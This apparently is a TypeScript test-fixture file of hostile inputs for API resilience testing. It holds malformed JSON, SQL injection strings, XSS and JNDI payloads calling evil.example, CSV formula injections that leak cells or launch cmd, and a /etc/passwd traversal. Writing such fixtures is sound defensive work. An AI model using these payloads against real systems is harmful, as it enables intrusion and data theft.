/**
 * Hostile request material for resilience scenario 7, generated here rather than downloaded.
 *
 * `N_JSON` is a representative set of the "must be rejected" (`n_`) cases of Nicolas Seriot's JSONTestSuite
 * (github.com/nst/JSONTestSuite, test_parsing/n_*.json), one or two per family: structure, numbers,
 * strings and escapes, literals, trailing garbage, comments, byte order mark, incomplete documents.
 */
export const N_JSON: string[] = [
  '[1 true]',
  '[a\u00e5]',
  '["": 1]',
  '[,1]',
  '[1,,2]',
  '["x",,]',
  '[1,]',
  '{"a":1,}',
  '{,}',
  '{"a" b}',
  '{"a":"a" 123}',
  "{'a':0}",
  '{a: 1}',
  '{"a":1 "b":2}',
  '{1:1}',
  '{null:null,null:null}',
  '[NaN]',
  '[Infinity]',
  '[-Infinity]',
  '[012]',
  '[1.]',
  '[.123]',
  '[1e]',
  '[1e+]',
  '[0x1]',
  '[+1]',
  '[-]',
  '[1.2a-3]',
  '[- 1]',
  '[1_000]',
  '["\\x00"]',
  '["\\uD800\\"]',
  '["\\u00A"]',
  '["\\a"]',
  '["\\u"]',
  '["\t"]',
  '["a\u0000"]',
  '["new\nline"]',
  '[\u00a0]',
  '["a"\u0000]',
  '[true',
  '{"a":',
  '"',
  '[',
  '{',
  ']',
  '}',
  ' ',
  '[]]',
  '{}}',
  '[1]x',
  '{"a":1}{"b":2}',
  '["abc',
  '[tru]',
  '[nul]',
  '[True]',
  '[null, NULL]',
  '/* comment */ {}',
  '{"a":1} // comment',
  '[1]\u0000',
  '\ufeff{}',
  '123abc',
  '[\u2060]',
  '{"a":"b"}#',
  "['single quote']",
  '[\\u0020]',
  '{"\\uDFAA":0',
  '<?xml version="1.0"?><a/>',
  'a=1&b=2',
];

/** Deeply nested documents: unclosed (n_structure_100000_opening_arrays) and closed but absurd. */
export const DEEP: string[] = [
  '['.repeat(100_000),
  `${'['.repeat(5_000)}${']'.repeat(5_000)}`,
  `${'{"a":'.repeat(2_000)}1${'}'.repeat(2_000)}`,
  `{"metadata":${'{"x":'.repeat(40)}1${'}'.repeat(40)}}`,
];

export const SQL_INJECTION = [
  "' OR '1'='1",
  '1; DROP TABLE feedback; --',
  "' UNION SELECT secret_encrypted, 1 FROM integrations --",
  '" OR ""="',
  "1' AND SLEEP(3)--",
  "%' OR 1=1 #",
  "admin'--",
  "\\'; SELECT 1; --",
  '1) OR (1=1',
  "'; UPDATE api_keys SET scopes='admin' --",
];

export const SCRIPT_INJECTION = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(document.cookie)',
  '<svg/onload=alert(1)>',
  '{{7*7}}',
  '${7*7}',
  '</textarea><script>fetch("//evil.example")</script>',
  '${jndi:ldap://evil.example/a}',
];

/** OWASP "CSV injection": cells a spreadsheet would run as a formula. */
export const CSV_FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
  '\t=1+1',
];

export const OTHER_HOSTILE = [
  '../../../../etc/passwd',
  '%00',
  '\u0000',
  '\ud800',
  '\udfff',
  'a'.repeat(5_000),
  '\u202e',
];

export const INJECTIONS = [...SQL_INJECTION, ...SCRIPT_INJECTION, ...CSV_FORMULAS, ...OTHER_HOSTILE];

/** Bodies that are not UTF-8: invalid sequences, overlong forms, UTF-16 surrogates encoded as UTF-8, truncation. */
export const BAD_UTF8: Buffer[] = [
  [0xc3, 0x28],
  [0xff],
  [0xfe, 0xfe, 0xff, 0xff],
  [0xc0, 0xaf],
  [0xe0, 0x80, 0xaf],
  [0xed, 0xa0, 0x80],
  [0xed, 0xbf, 0xbf],
  [0xf8, 0x88, 0x80, 0x80, 0x80],
  [0xe2, 0x82],
  [0xf4, 0x90, 0x80, 0x80],
].map((bytes) =>
  Buffer.concat([Buffer.from('{"text":"'), Buffer.from(bytes), Buffer.from('","rating":1,"kind":"review"}')]),
);

export const WRONG_CONTENT_TYPES = [
  'text/plain',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/xml',
  'application/json-patch+json',
  'application/javascript',
  'text/csv',
  'application/octet-stream',
  '',
];

/** Values of the wrong type for a field whose schema type is `type`. */
export function wrongTypes(type: string | undefined): unknown[] {
  const all: Record<string, unknown[]> = {
    string: [12345, true, { $gt: '' }, ['a'], 1e308],
    number: ['12', '1e3', true, {}, [1], 'NaN', -1e308],
    integer: ['7', 3.5, false, { n: 1 }, [7], 2 ** 64],
    boolean: ['true', 1, 0, {}, ['yes']],
    object: ['{}', 42, ['a', 'b'], true],
    array: ['[]', { 0: 'a' }, 7, 'a,b'],
  };
  return all[type ?? 'string'] ?? all.string;
}

/** Deterministic pseudo-random numbers (LCG), so a failing case can be replayed. */
export function seededRandom(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}
